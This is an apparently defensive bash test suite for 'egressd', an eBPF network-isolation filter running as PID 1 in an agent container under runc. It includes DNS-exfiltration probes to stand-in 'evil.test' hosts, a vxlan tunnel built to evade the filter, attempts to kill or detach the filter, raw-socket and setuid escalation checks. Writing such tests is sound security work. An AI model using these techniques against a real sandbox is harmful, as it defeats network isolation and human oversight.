#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
#
# Container mode (issue 9): para's session container with the bpf backend,
# run for real under runc (the runtime Docker itself uses), with `runc
# exec` standing in for `docker exec`.  The bundle mirrors para's `docker
# create` line (tests/lib/container.sh); PID 1 is docker/secure-entrypoint.sh.
#   - isolation false / unset: the warning, traffic flows, no egressd;
#     a bad value or a missing allowlist: refused (125);
#   - isolation true: allowed names work, IPv6 filtered alike, a blocked
#     connection fails in milliseconds, an unresolvable name stops the
#     container (125), DNS exfiltration refused;
#   - a bare `runc exec` as uid 1000 with Docker's capabilities (para's
#     `docker exec -u para`): filtered, DNS through the proxy, and it
#     cannot detach the filter, leave the cgroup, kill egressd, use a
#     setuid binary or open a packet socket; it does hold CAP_NET_ADMIN;
#   - `egressd exec` (root `runc exec`): no capabilities, no_new_privs,
#     seccomp, uid 1000, filtered, no tunnel;
#   - signals (TERM ends the session with the command's status) and
#     orphans of exec sessions reaped;
#   - no CAP_BPF: refused with the capability message;
#   - `egressd check` and `egressd status --verify` inside the container.

. "$(dirname "$0")/../lib/lab.sh"
. "$(dirname "$0")/../lib/container.sh"

lab_init
lab_require_egressd
lab_up
# a.wild.test is learned only through the proxy (wildcards are not
# resolved at start): reaching it proves a session's DNS went there.
lab_add_host_addr 198.51.100.42
lab_dns_add 'host-record=a.wild.test,198.51.100.42'
lab_start_servers
ctr_init
ctr_rootfs

DOMAINS="allowed.test,*.wild.test"
ON=(--env PARA_NETWORK_ISOLATION=true --env "PARA_ALLOWED_DOMAINS=$DOMAINS")
STARTED='isolation ON'
# A blocked connect must fail well within this (it is EPERM, not a timeout).
FAST_MS=500

# expect_ctr_rc NAME WANT DESC
expect_ctr_rc()
{
	if [ "$CTR_RC" = "$2" ]; then
		lab_ok "$3"
	else
		lab_fail "$3" "container $1 exited $CTR_RC, expected $2"
	fi
}

# expect_fast_eperm DESC: LAB_OUT is a probe that got EPERM within FAST_MS.
expect_fast_eperm()
{
	local ms

	ms=$(sed -n 's/^elapsed_ms=//p' "$LAB_OUT" | head -n1)
	if [ "$LAB_RC" -eq 1 ] && [ "$(lab_verdict)" = "blocked errno=EPERM" ] &&
		[[ $ms =~ ^[0-9]+$ ]] && [ "$ms" -lt "$FAST_MS" ]; then
		lab_ok "$1 (EPERM in ${ms} ms)"
	else
		lab_fail "$1" "rc=$LAB_RC verdict='$(lab_verdict)' elapsed_ms='$ms' (want EPERM < $FAST_MS ms)"
	fi
}

# The host pids of the container's processes named COMM.
procs_named()
{
	local p

	for p in $(ctr_procs "$1"); do
		[ "$(cat "/proc/$p/comm" 2>/dev/null)" = "$2" ] && echo "$p"
	done
	return 0
}

# cap_bit HEX BIT: 1 if capability BIT is set in the /proc status mask.
cap_bit() { echo $(((0x$1 >> $2) & 1)); }
status_field() { sed -n "s/^$1:[[:space:]]*//p" "$LAB_OUT" | head -n1; }

CAP_NET_ADMIN=12
CAP_NET_RAW=13
CAP_BPF=39

lab_section "the harness's cgroup guard refuses a container outside its own cgroup"
# The createRuntime hook is told to expect another cgroup: runc must
# refuse to start the container, and its command must never run.
ctr_bundle guard --raw -- sh -c 'echo GUARD-RAN'
"$LAB_PY" - "$CTR_DIR/guard/config.json" <<'PYEOF' || lab_die "editing the guard bundle"
import json, sys
c = json.load(open(sys.argv[1]))
c["hooks"]["createRuntime"][0]["args"][1] = "/egressd-ctr-elsewhere"
json.dump(c, open(sys.argv[1], "w"))
PYEOF
ctr_record_cgroups guard
CTR_NAMES+=(guard)
timeout 30 runc --root "$CTR_STATE" run --bundle "$CTR_DIR/guard" "$(ctr_id guard)" \
	>"$CTR_DIR/guard/out" 2>"$CTR_DIR/guard/err" </dev/null
rc=$?
if [ "$rc" -ne 0 ] && grep -q '^cgroup-BAD' "$CTR_DIR/guard/cgroup-check" 2>/dev/null &&
	! grep -q GUARD-RAN "$CTR_DIR/guard/out"; then
	lab_ok "runc refused it (rc=$rc): $(cat "$CTR_DIR/guard/cgroup-check")"
else
	lab_fail "the guard refuses a container outside its own cgroup" \
		"rc=$rc check: $(cat "$CTR_DIR/guard/cgroup-check" 2>/dev/null) out: $(cat "$CTR_DIR/guard/out")"
fi
ctr_delete guard

lab_section "isolation false: the warning, no egressd, traffic flows"
ctr_bundle off --env PARA_NETWORK_ISOLATION=false -- sleep 600
ctr_start off
ctr_assert_cgroup off
if ctr_wait_log off 'WARNING: Network isolation: OFF' 10; then
	lab_ok "the entrypoint warns: Network isolation: OFF"
else
	lab_fail "the entrypoint warns: Network isolation: OFF" "stderr: $(cat "$CTR_DIR/off/err")"
fi
expect_fgrep "$CTR_DIR/off/err" "WARNING: Network isolation: OFF (use --allow-domains to enable)" \
	"the warning is para's exact line"
if [ -z "$(procs_named off egressd)" ] && [ "$(cat "/proc/$(ctr_pid off)/comm")" = sleep ]; then
	lab_ok "no egressd runs; PID 1 is the command itself"
else
	lab_fail "no egressd runs; PID 1 is the command itself" \
		"PID 1 is $(cat "/proc/$(ctr_pid off)/comm"); egressd pids: $(procs_named off egressd)"
fi
ctr_exec off --user 1000 -- probe tcp "$LAB_DENIED4" 80 "$LAB_OK_MS"
lab_check_verdict ok "a session reaches $LAB_DENIED4:80 (nothing filters it)"
ctr_exec off --user 1000 -- probe tcp "$LAB_DENIED6" 80 "$LAB_OK_MS"
lab_check_verdict ok "and $LAB_DENIED6:80"
ctr_exec off --user 1000 -- getent ahostsv4 ctl-exfil.evil.test
if lab_dns_was_asked ctl-exfil.evil.test; then
	lab_ok "(control: without egressd any name reaches dnsmasq)"
else
	lab_fail "(control: without egressd any name reaches dnsmasq)"
fi
# The zombie control: `sleep` as PID 1 reaps nothing.
ctr_exec off --user 1000 -- sh -c 'sleep 0.3 & echo "orphan=$!"'
sleep 1
if [ -n "$(ctr_zombies off)" ]; then
	lab_ok "(control: with sleep as PID 1 an exec session's orphan stays a zombie)"
else
	lab_fail "(control: with sleep as PID 1 an exec session's orphan stays a zombie)" \
		"no zombie in the container: the orphan check below could not fail"
fi
ctr_exec off -- egressd status --verify
if [ "$LAB_RC" -ne 0 ] && ! grep -q 'unknown command' "$LAB_ERR"; then
	lab_ok "egressd status --verify fails where egressd does not run (rc=$LAB_RC)"
else
	lab_fail "egressd status --verify fails where egressd does not run"
fi
ctr_exec off -- egressd exec -- true
if [ "$LAB_RC" -ne 0 ] && ! grep -q 'unknown command' "$LAB_ERR"; then
	lab_ok "egressd exec refuses a cgroup no egressd enforces (rc=$LAB_RC)"
else
	lab_fail "egressd exec refuses a cgroup no egressd enforces" "it ran the command"
fi
ctr_delete off

lab_section "isolation unset: off, as para's default"
ctr_bundle unset -- true
ctr_start unset
ctr_wait_exit unset 10
expect_ctr_rc unset 0 "the command runs and its status is the container's"
expect_fgrep "$CTR_DIR/unset/err" "WARNING: Network isolation: OFF (use --allow-domains to enable)" \
	"PARA_NETWORK_ISOLATION unset: the warning"

lab_section "bad values: refused, never a silent off"
BADN=0
for v in yes TRUE 1 ""; do
	n=bad$((++BADN))
	ctr_bundle "$n" --env "PARA_NETWORK_ISOLATION=$v" --env "PARA_ALLOWED_DOMAINS=$DOMAINS" -- sleep 600
	ctr_start "$n"
	ctr_wait_exit "$n" 10
	expect_ctr_rc "$n" 125 "PARA_NETWORK_ISOLATION=\"$v\": the container stops with 125"
	expect_fgrep "$CTR_DIR/$n/err" "ERROR: PARA_NETWORK_ISOLATION must be true or false, not \"$v\"" \
		"and the error names the value \"$v\""
	expect_no_grep "$CTR_DIR/$n/err" 'WARNING: Network isolation: OFF' "and it is not taken for off"
done
ctr_bundle noallow --env PARA_NETWORK_ISOLATION=true -- sleep 600
ctr_start noallow
ctr_wait_exit noallow 10
expect_ctr_rc noallow 125 "isolation true without PARA_ALLOWED_DOMAINS: refused (125)"
expect_fgrep "$CTR_DIR/noallow/err" "PARA_ALLOWED_DOMAINS is not set" "and the error says what is missing"

lab_section "isolation true with exactly para's capabilities (Docker's default + BPF + NET_ADMIN - NET_RAW)"
ctr_bundle exact "${ON[@]}" -- sleep 600
ctr_start exact
if ctr_wait_log exact "$STARTED" 30; then
	lab_ok "egressd loads and attaches with exactly --cap-add BPF --cap-add NET_ADMIN"
else
	lab_fail "egressd loads and attaches with exactly --cap-add BPF --cap-add NET_ADMIN" \
		"$(grep -E 'ERROR|too complex|load failed' "$CTR_DIR/exact/err" | head -n 4)"
fi
ctr_delete exact

lab_section "isolation true: egressd is PID 1 and filters its command"
# The command itself (egressd's child, as para): what it saw goes to stdout.
ctr_bundle on "${ON[@]}" -- sh -c '
	echo "--- v4 allowed"; probe tcp 198.51.100.10 80 3000
	echo "--- v4 denied"; probe tcp 198.51.100.20 80 1000
	echo "--- v6 allowed"; probe tcp 2001:db8::10 80 3000
	echo "--- v6 denied"; probe tcp 2001:db8::20 80 1000
	echo "--- getent"; getent ahostsv4 allowed.test
	echo "--- done"; exec sleep 3600'
ctr_start on
if ctr_wait_log on "$STARTED" 30; then
	lab_ok "egressd starts in the container ($STARTED)"
else
	lab_fail "egressd starts in the container ($STARTED)" "$(cat "$CTR_DIR/on/err")"
	lab_finish
fi
ctr_assert_cgroup on
ON_PID=$(ctr_pid on)
if [ "$(cat "/proc/$ON_PID/comm")" = egressd ]; then
	lab_ok "PID 1 is egressd (the entrypoint exec'd it)"
else
	lab_fail "PID 1 is egressd (the entrypoint exec'd it)" "it is $(cat "/proc/$ON_PID/comm")"
fi
expect_grep "$CTR_DIR/on/err" "$STARTED.*cgroup /sys/fs/cgroup;" \
	"egressd filters the container's own cgroup (--cgroup self)"
for ((i = 0; i < 100; i++)); do
	grep -q -- '--- done' "$CTR_DIR/on/out" && break
	sleep 0.1
done
sed 's/^/    | /' "$CTR_DIR/on/out"
sect() { sed -n "/^--- $1\$/,/^---/p" "$CTR_DIR/on/out" | sed -n 2p; }
[ "$(sect "v4 allowed")" = ok ] && lab_ok "the command reaches allowed.test ($LAB_ALLOWED4)" ||
	lab_fail "the command reaches allowed.test ($LAB_ALLOWED4)" "got: $(sect "v4 allowed")"
[ "$(sect "v4 denied")" = "blocked errno=EPERM" ] && lab_ok "the command gets EPERM for $LAB_DENIED4" ||
	lab_fail "the command gets EPERM for $LAB_DENIED4" "got: $(sect "v4 denied")"
[ "$(sect "v6 allowed")" = ok ] && lab_ok "IPv6: the command reaches $LAB_ALLOWED6 (allowed.test's AAAA)" ||
	lab_fail "IPv6: the command reaches $LAB_ALLOWED6 (allowed.test's AAAA)" "got: $(sect "v6 allowed")"
[ "$(sect "v6 denied")" = "blocked errno=EPERM" ] && lab_ok "IPv6: EPERM for $LAB_DENIED6" ||
	lab_fail "IPv6: EPERM for $LAB_DENIED6" "got: $(sect "v6 denied")"
case $(sect getent) in
"$LAB_ALLOWED4 "*) lab_ok "allowed.test resolves for the command" ;;
*) lab_fail "allowed.test resolves for the command" "got: $(sect getent)" ;;
esac
ctr_exec on -- cat /proc/self/cgroup
expect_grep "$LAB_OUT" '^0::/$' "inside, the container's cgroup is 0::/ (its own cgroup namespace)"

lab_section "isolation true: fast failures, IPv6, DNS exfiltration"
ctr_exec on --user 1000 -- probe tcp "$LAB_DENIED4" 80 "$LAB_BLOCK_MS"
expect_fast_eperm "tcp $LAB_DENIED4:80 fails in milliseconds"
ctr_exec on --user 1000 -- probe udp "$LAB_DENIED4" 7 "$LAB_BLOCK_MS"
expect_fast_eperm "udp $LAB_DENIED4:7 fails in milliseconds"
ctr_exec on --user 1000 -- probe tcp "$LAB_DENIED6" 80 "$LAB_BLOCK_MS"
expect_fast_eperm "tcp [$LAB_DENIED6]:80 fails in milliseconds"
ctr_exec on --user 1000 -- probe udp "$LAB_ALLOWED6" 7 "$LAB_OK_MS"
lab_check_verdict ok "udp [$LAB_ALLOWED6]:7 (allowed.test) echoes"
ctr_exec on --user 1000 -- getent ahostsv4 secret-data.evil.test
if [ "$LAB_RC" -ne 0 ] && ! lab_dns_was_asked secret-data.evil.test; then
	lab_ok "DNS exfiltration: secret-data.evil.test is refused and never reaches dnsmasq"
else
	lab_fail "DNS exfiltration: secret-data.evil.test is refused and never reaches dnsmasq" \
		"getent rc=$LAB_RC; dnsmasq asked: $(lab_dns_was_asked secret-data.evil.test && echo yes || echo no)"
fi
expect_grep "$CTR_DIR/on/err" 'blocked DNS .*secret-data\.evil\.test' "egressd reports the refused name"
ctr_exec on --user 1000 -- attack send --dns x.secret.evil.test --reply 1000 udp 8.8.8.8 53
lab_dns_was_asked x.secret.evil.test && lab_fail "a query aimed at 8.8.8.8 stays in the lab too" ||
	lab_ok "a query aimed at 8.8.8.8 stays in the lab too"

lab_section "an unresolvable name in PARA_ALLOWED_DOMAINS stops the container"
ctr_bundle nores --env PARA_NETWORK_ISOLATION=true \
	--env PARA_ALLOWED_DOMAINS=allowed.test,nosuch-name.test -- sh -c 'echo COMMAND-RAN; sleep 600'
ctr_start nores
ctr_wait_exit nores 30
expect_ctr_rc nores 125 "the container exits 125"
expect_fgrep "$CTR_DIR/nores/err" "Failed to resolve domain: nosuch-name.test" "with the seed's message"
expect_no_grep "$CTR_DIR/nores/out" COMMAND-RAN "and the command never ran"

lab_section "bare runc exec as uid 1000 with Docker's capabilities (docker exec -u para)"
# moby gives an exec process the container's spec.Process capabilities
# and changes only the user; for uid 1000 execve() then leaves no
# effective or permitted capability (no ambient set, no file caps), but
# the bounding set keeps them all: only no_new_privs stops a setuid or
# file-capability binary from taking them back.
ctr_exec on --user 1000 -- probe caps
eff=$(status_field CapEff)
bnd=$(status_field CapBnd)
if [ "$(status_field Uid | awk '{ print $2 }')" = 1000 ] && [ -n "$eff" ] && [ $((0x$eff)) -eq 0 ]; then
	lab_ok "the uid 1000 session has no effective capability (CapEff $eff: execve drops them for non-root)"
else
	lab_fail "the uid 1000 session has no effective capability" "CapEff='$eff'"
fi
if [ -n "$bnd" ] && [ "$(cap_bit "$bnd" $CAP_NET_ADMIN)" = 1 ] && [ "$(cap_bit "$bnd" $CAP_BPF)" = 1 ] &&
	[ "$(cap_bit "$bnd" $CAP_NET_RAW)" = 0 ]; then
	lab_ok "but its bounding set is the container's (NET_ADMIN, BPF, no NET_RAW: CapBnd $bnd)"
else
	lab_fail "but its bounding set is the container's (NET_ADMIN, BPF, no NET_RAW)" "CapBnd='$bnd'"
fi
expect_grep "$LAB_OUT" '^NoNewPrivs:[[:space:]]*1' "no_new_privs (--security-opt no-new-privileges) holds for exec sessions"
ctr_exec on --user 1000 -- probe tcp "$LAB_DENIED4" 80 "$LAB_BLOCK_MS"
lab_check_verdict blocked "the session is filtered: $LAB_DENIED4:80"
ctr_exec on --user 1000 -- probe tcp "$LAB_ALLOWED4" 80 "$LAB_OK_MS"
lab_check_verdict ok "the session reaches $LAB_ALLOWED4:80"
ctr_exec on --user 1000 -- probe tcp 198.51.100.42 80 "$LAB_BLOCK_MS"
lab_check_verdict blocked "(control: a.wild.test's 198.51.100.42 is not allowed before a lookup)"
ctr_exec on --user 1000 -- sh -c 'getent ahostsv4 a.wild.test | { read -r a _; echo "addr=$a"; probe tcp "$a" 80 3000; }'
expect_fgrep "$LAB_OUT" "addr=198.51.100.42" "the session's DNS goes through egressd's proxy (a.wild.test resolves)"
expect_grep "$LAB_OUT" '^ok$' "and the answer is learned: 198.51.100.42 is reachable"
ctr_exec on --user 1000 -- probe bpf-detach /sys/fs/cgroup
expect_rc 0 "the session cannot detach the filter (probe bpf-detach)"
ctr_exec on --user 1000 -- probe tcp "$LAB_DENIED4" 80 "$LAB_BLOCK_MS"
lab_check_verdict blocked "and it still holds afterwards"
ctr_exec on --user 1000 -- probe escape /sys/fs/cgroup
expect_rc 0 "the session cannot leave the cgroup (probe escape)"
ctr_exec on --user 1000 -- sh -c 'echo $$ >/sys/fs/cgroup/cgroup.procs'
if [ "$LAB_RC" -ne 0 ] && grep -qi 'read-only' "$LAB_ERR"; then
	lab_ok "writing /sys/fs/cgroup/cgroup.procs fails: read-only (CAP_DAC_OVERRIDE does not help)"
else
	lab_fail "writing /sys/fs/cgroup/cgroup.procs fails: read-only" "rc=$LAB_RC"
fi
ctr_exec on -- sh -c 'kill -9 1; echo "kill-rc=$?"'
sleep 0.5
if [ "$(ctr_pid on)" = "$ON_PID" ] && [ "$(cat "/proc/$ON_PID/comm" 2>/dev/null)" = egressd ] &&
	! ctr_exited on; then
	lab_ok "kill -9 1, even from a root exec with CAP_KILL, has no effect: egressd still runs"
else
	lab_fail "kill -9 1, even from a root exec with CAP_KILL, has no effect: egressd still runs"
fi
ctr_exec on --user 1000 -- suid-id -u
if [ "$LAB_RC" -eq 0 ] && [ "$(head -n1 "$LAB_OUT")" = 1000 ]; then
	lab_ok "a setuid-root binary (the sudo stand-in) stays euid 1000 under no_new_privs"
else
	lab_fail "a setuid-root binary (the sudo stand-in) stays euid 1000" "got '$(head -n1 "$LAB_OUT")'"
fi
ctr_exec on --user 1000 --nnp 0 -- suid-id -u
[ "$(head -n1 "$LAB_OUT")" = 0 ] && lab_ok "(control: without no_new_privs it becomes euid 0)" ||
	lab_fail "(control: without no_new_privs it becomes euid 0)" "got '$(head -n1 "$LAB_OUT")'"
ctr_exec on --user 1000 -- pktsock
expect_rc 0 "the session cannot open a packet or raw socket (NET_RAW dropped)"
expect_fgrep "$LAB_OUT" "packet raw: EPERM" "packet raw: EPERM"
ctr_exec on --caps "$CTR_PARA_CAPS NET_RAW" -- pktsock
expect_fgrep "$LAB_OUT" "packet raw: ok" "(control: a root exec with Docker's default NET_RAW opens one)"
# A tunnel: vxlan encapsulates in a kernel UDP socket that belongs to no
# cgroup of the container, so egressd's filter never sees its packets.
tunnel() { printf '%s\n' ip link add "$1" type vxlan id 42 remote "$LAB_OTHER4" dstport 4789; }
tunnel_exists() { ip -n "$LAB_CLIENT" link show "$1" >/dev/null 2>&1; }
# shellcheck disable=SC2046
ctr_exec on --user 1000 -- $(tunnel "et$LAB_ID")
if [ "$LAB_RC" -ne 0 ] && ! tunnel_exists "et$LAB_ID"; then
	lab_ok "the uid 1000 session cannot create a tunnel"
else
	lab_fail "the uid 1000 session cannot create a tunnel" "rc=$LAB_RC"
fi
ip -n "$LAB_CLIENT" link del "et$LAB_ID" 2>/dev/null
ctr_exec on --user 1000 -- sh -c 'grep "^Seccomp:" /proc/self/status'
expect_grep "$LAB_OUT" '^Seccomp:[[:space:]]*0' \
	"a bare exec has no compat-syscall seccomp filter (32-bit setsockopt goes unjudged): a reason for egressd exec"

lab_section "bare runc exec as root (docker exec's default user: the image's USER root)"
ctr_exec on -- probe caps
eff=$(status_field CapEff)
if [ -n "$eff" ] && [ "$(cap_bit "$eff" $CAP_NET_ADMIN)" = 1 ] && [ "$(cap_bit "$eff" $CAP_BPF)" = 1 ]; then
	lab_ok "a root exec holds CAP_NET_ADMIN and CAP_BPF (CapEff $eff): why para must not run the agent so"
else
	lab_fail "a root exec holds CAP_NET_ADMIN and CAP_BPF" "CapEff='$eff'"
fi
# shellcheck disable=SC2046
ctr_exec on -- $(tunnel "er$LAB_ID")
if [ "$LAB_RC" -eq 0 ] && tunnel_exists "er$LAB_ID"; then
	lab_ok "and it can create a kernel tunnel (vxlan), whose packets no cgroup owns"
else
	lab_fail "and it can create a kernel tunnel (vxlan)" "rc=$LAB_RC"
fi
ip -n "$LAB_CLIENT" link del "er$LAB_ID" 2>/dev/null

# missing_cmd NAME: the last run failed because this egressd has no NAME.
missing_cmd() { [ "$LAB_RC" -ne 0 ] && grep -q "unknown command \"$1\"" "$LAB_ERR"; }

lab_section "egressd exec (docker exec -u root <c> egressd exec -- CMD)"
ctr_exec on -- egressd exec -- sh -c 'grep -E "^(Uid|CapEff|CapBnd|CapPrm|NoNewPrivs|Seccomp):" /proc/self/status'
if missing_cmd exec; then
	lab_fail "egressd exec exists" "this egressd has no exec command: its cases did not run"
else
	expect_rc 0 "egressd exec runs the command"
	for f in CapEff CapBnd CapPrm; do
		v=$(status_field $f)
		if [ -n "$v" ] && [ $((0x$v)) -eq 0 ]; then
			lab_ok "$f is empty ($v)"
		else
			lab_fail "$f is empty" "got '$v'"
		fi
	done
	[ "$(status_field NoNewPrivs)" = 1 ] && lab_ok "NoNewPrivs 1" ||
		lab_fail "NoNewPrivs 1" "got '$(status_field NoNewPrivs)'"
	[ "$(status_field Seccomp)" = 2 ] && lab_ok "Seccomp 2 (the compat-syscall filter)" ||
		lab_fail "Seccomp 2 (the compat-syscall filter)" "got '$(status_field Seccomp)'"
	[ "$(status_field Uid | awk '{ print $1 "/" $2 }')" = 1000/1000 ] &&
		lab_ok "it runs as para (uid 1000), egressd's --user" ||
		lab_fail "it runs as para (uid 1000)" "Uid: $(status_field Uid)"
	ctr_exec on -- egressd exec -- probe tcp "$LAB_DENIED4" 80 "$LAB_BLOCK_MS"
	lab_check_verdict blocked "it is filtered: $LAB_DENIED4:80"
	ctr_exec on -- egressd exec -- probe tcp "$LAB_ALLOWED4" 80 "$LAB_OK_MS"
	lab_check_verdict ok "it reaches $LAB_ALLOWED4:80"
	# shellcheck disable=SC2046
	ctr_exec on -- egressd exec -- $(tunnel "eu$LAB_ID")
	if [ "$LAB_RC" -ne 0 ] && ! tunnel_exists "eu$LAB_ID"; then
		lab_ok "it cannot create a tunnel (no CAP_NET_ADMIN)"
	else
		lab_fail "it cannot create a tunnel (no CAP_NET_ADMIN)" "rc=$LAB_RC"
	fi
	ip -n "$LAB_CLIENT" link del "eu$LAB_ID" 2>/dev/null
	ctr_exec on -- egressd exec -- pktsock
	expect_rc 0 "it cannot open a packet socket"
	ctr_exec on -- egressd exec -- probe bpf-detach /sys/fs/cgroup
	expect_rc 0 "it cannot detach the filter"
	ctr_exec on -- egressd exec -- sh -c 'kill -TERM 1; echo "kill-rc=$?"'
	expect_fgrep "$LAB_OUT" "kill-rc=1" "it cannot signal egressd (no CAP_KILL)"
	ctr_exec on -- egressd exec -- suid-id -u
	[ "$(head -n1 "$LAB_OUT")" = 1000 ] && lab_ok "the setuid stand-in stays uid 1000" ||
		lab_fail "the setuid stand-in stays uid 1000" "got '$(head -n1 "$LAB_OUT")'"
	ctr_exec on -- egressd exec --user nobody -- id -u
	[ "$LAB_RC" -eq 0 ] && [ "$(head -n1 "$LAB_OUT")" = 65534 ] && lab_ok "--user nobody runs it as 65534" ||
		lab_fail "--user nobody runs it as 65534" "rc=$LAB_RC got '$(head -n1 "$LAB_OUT")'"
fi

lab_section "orphans of exec sessions are reaped by egressd (PID 1)"
# The orphan lets go of the exec's stdio, or runc (like docker exec)
# would wait for it; its parent exits, so the kernel hands it to PID 1.
ctr_exec on --user 1000 -- sh -c 'sleep 2 </dev/null >/dev/null 2>&1 & echo "orphan=$!"'
nspid=$(sed -n 's/^orphan=//p' "$LAB_OUT")
hp=$(ctr_host_pid on "$nspid")
if [ -n "$hp" ] && [ "$(awk '/^PPid:/ { print $2 }' "/proc/$hp/status" 2>/dev/null)" = "$ON_PID" ]; then
	lab_ok "the orphan (pid $nspid in the container) is reparented to egressd"
else
	lab_fail "the orphan (pid $nspid in the container) is reparented to egressd" "host pid '$hp'"
fi
sleep 3
z=$(ctr_zombies on)
if [ -n "$hp" ] && [ -z "$z" ] && [ ! -e "/proc/$hp" ]; then
	lab_ok "and reaped when it exits: no zombie in the container"
else
	lab_fail "and reaped when it exits: no zombie in the container" "orphan host pid '$hp'; zombies: $z"
fi

lab_section "egressd check inside the container"
ctr_exec on -- egressd check
if missing_cmd check; then
	lab_fail "egressd check exists" "this egressd has no check command: its cases did not run"
else
	expect_rc 0 "egressd check passes in para's container"
	expect_grep "$LAB_OUT" '[Rr]ead-only.*--cgroup self|--cgroup self.*[Rr]ead-only' \
		"check: the cgroup is read-only, so --cgroup self"
	expect_grep "$LAB_OUT" 'NET_RAW.*ok|ok.*NET_RAW' "check: CAP_NET_RAW absent is ok"
	ctr_exec on --caps "$CTR_PARA_CAPS NET_RAW" -- egressd check
	expect_grep "$LAB_OUT" 'NET_RAW' "check with NET_RAW: names it"
	expect_grep "$LAB_OUT" '[Pp]acket' "and warns that packet sockets bypass the filter"
	ctr_exec on --caps "$(printf '%s\n' $CTR_PARA_CAPS | grep -vx BPF | tr '\n' ' ')" -- egressd check
	if [ "$LAB_RC" -ne 0 ] && grep -q CAP_BPF "$LAB_OUT"; then
		lab_ok "check without CAP_BPF: fails and names it (rc=$LAB_RC)"
	else
		lab_fail "check without CAP_BPF: fails and names it" "rc=$LAB_RC"
	fi
fi

lab_section "egressd status and --verify"
ctr_exec on -- egressd status --verify
if missing_cmd status; then
	lab_fail "egressd status exists" "this egressd has no status command: its cases did not run"
else
	expect_rc 0 "egressd status --verify: 0 in the enforcing container"
	if [ -s "$LAB_OUT" ]; then
		lab_fail "--verify prints nothing" "$(head -n3 "$LAB_OUT")"
	else
		lab_ok "--verify prints nothing"
	fi
	ctr_exec on -- egressd status
	expect_rc 0 "egressd status runs"
	expect_fgrep "$LAB_OUT" "allowed.test" "status lists the allowlist's names"
	expect_fgrep "$LAB_OUT" "a.wild.test" "and the name the session learned"
	expect_grep "$LAB_OUT" '[Ee]nforc' "and the mode (enforcing)"
	ctr_exec on -- egressd exec -- egressd status --verify
	if [ "$LAB_RC" -ne 0 ] && ! missing_cmd exec; then
		lab_ok "the session user (egressd exec) cannot use the status socket (rc=$LAB_RC)"
	else
		lab_fail "the session user (egressd exec) cannot use the status socket" "rc=$LAB_RC"
	fi
	sock=$(find "/proc/$ON_PID/root/run/egressd" -type s 2>/dev/null | head -n1)
	sock=${sock#/proc/"$ON_PID"/root}
	if [ -z "$sock" ]; then
		lab_fail "egressd serves a status socket under /run/egressd" "none found"
	else
		lab_ok "egressd serves a status socket ($sock)"
		# uid 1000 with the container's bounding set but no effective
		# capability (CAP_DAC_OVERRIDE would open a root-only file).
		ask='echo "{\"request\":\"status\"}" | socat -t 3 - "UNIX-CONNECT:$0"'
		ctr_exec on -- sh -c "$ask" "$sock"
		expect_fgrep "$LAB_OUT" '"enforcing"' "(control: root gets the status document over it)"
		ctr_exec on --user 1000 -- sh -c "$ask" "$sock"
		if [ "$LAB_RC" -ne 0 ] && ! grep -q '"mode"' "$LAB_OUT"; then
			lab_ok "a bare uid 1000 session cannot connect to it (rc=$LAB_RC)"
		else
			lab_fail "a bare uid 1000 session cannot connect to it" "it read: $(head -c 200 "$LAB_OUT")"
		fi
	fi
	ctr_bundle audit --raw -- egressd run --audit --cgroup self --allow-domains allowed.test --user para -- sleep 600
	ctr_start audit
	if ctr_wait_log audit "$STARTED" 30; then
		ctr_exec audit -- egressd status --verify
		[ "$LAB_RC" -ne 0 ] && lab_ok "--verify fails in audit mode (rc=$LAB_RC)" ||
			lab_fail "--verify fails in audit mode"
		ctr_exec audit -- egressd status
		expect_grep "$LAB_OUT" '[Aa]udit' "status says audit"
	else
		lab_fail "the audit container starts" "$(cat "$CTR_DIR/audit/err")"
	fi
	ctr_delete audit
fi

lab_section "signals: TERM ends the session with the command's status"
ctr_bundle sig "${ON[@]}" -- sh -c 'trap "echo got-TERM; exit 7" TERM; echo ready; sleep 600 & wait'
ctr_start sig
if ctr_wait_log sig "$STARTED" 30 && lab_wait 10 "the command to start" grep -q ready "$CTR_DIR/sig/out"; then
	ctr_stop sig TERM
	expect_ctr_rc sig 7 "runc kill TERM: the command's trap runs and the container exits 7"
	expect_fgrep "$CTR_DIR/sig/out" got-TERM "egressd forwarded TERM to the command"
else
	lab_fail "the signal container starts" "$(cat "$CTR_DIR/sig/err")"
fi
ctr_bundle sig2 "${ON[@]}" -- sleep 600
ctr_start sig2
if ctr_wait_log sig2 "$STARTED" 30; then
	ctr_stop sig2 TERM
	expect_ctr_rc sig2 143 "sleep killed by TERM: the container exits 143"
else
	lab_fail "the second signal container starts" "$(cat "$CTR_DIR/sig2/err")"
fi

lab_section "missing capabilities: refused"
# shellcheck disable=SC2086
NOBPF_CAPS=$(printf '%s\n' $CTR_PARA_CAPS | grep -vx BPF | tr '\n' ' ')
ctr_bundle nobpf "${ON[@]}" --caps "$NOBPF_CAPS" -- sh -c 'echo COMMAND-RAN'
ctr_start nobpf
ctr_wait_exit nobpf 30
expect_ctr_rc nobpf 125 "without CAP_BPF the container exits 125"
expect_fgrep "$CTR_DIR/nobpf/err" "CAP_BPF" "the message names CAP_BPF"
# The entrypoint's preflight catches it first: check's FAIL line is the
# capability message, with Docker's fix.
expect_grep "$CTR_DIR/nobpf/err" '^FAIL +CAP_BPF .*--cap-add BPF' \
	"with egressd check's capability line and its Docker fix (--cap-add BPF)"
expect_no_grep "$CTR_DIR/nobpf/err" '^ok ' "and none of check's ok lines"
expect_fgrep "$CTR_DIR/nobpf/err" "(run: egressd check)" "and the entrypoint's pointer to egressd check"
expect_fgrep "$CTR_DIR/nobpf/err" "ERROR: Network isolation requires CAP_BPF and CAP_NET_ADMIN capabilities" \
	"and the seed's capability message"
expect_no_grep "$CTR_DIR/nobpf/out" COMMAND-RAN "the command never ran"
ctr_bundle nobpf2 --raw --caps "$NOBPF_CAPS" -- \
	egressd run --cgroup self --allow-domains allowed.test --user para -- sh -c 'echo COMMAND-RAN'
ctr_start nobpf2
ctr_wait_exit nobpf2 30
expect_ctr_rc nobpf2 125 "egressd run itself, without CAP_BPF: 125"
expect_fgrep "$CTR_DIR/nobpf2/err" "Network isolation requires CAP_BPF and CAP_NET_ADMIN capabilities" \
	"with egressd's capability message"
expect_no_grep "$CTR_DIR/nobpf2/out" COMMAND-RAN "the command never ran"

lab_section "a seccomp profile that refuses bpf() (Docker's default without CAP_BPF)"
ctr_bundle seccomp "${ON[@]}" --seccomp-deny-bpf -- sh -c 'echo COMMAND-RAN'
ctr_start seccomp
ctr_wait_exit seccomp 30
expect_ctr_rc seccomp 125 "the container stops with 125"
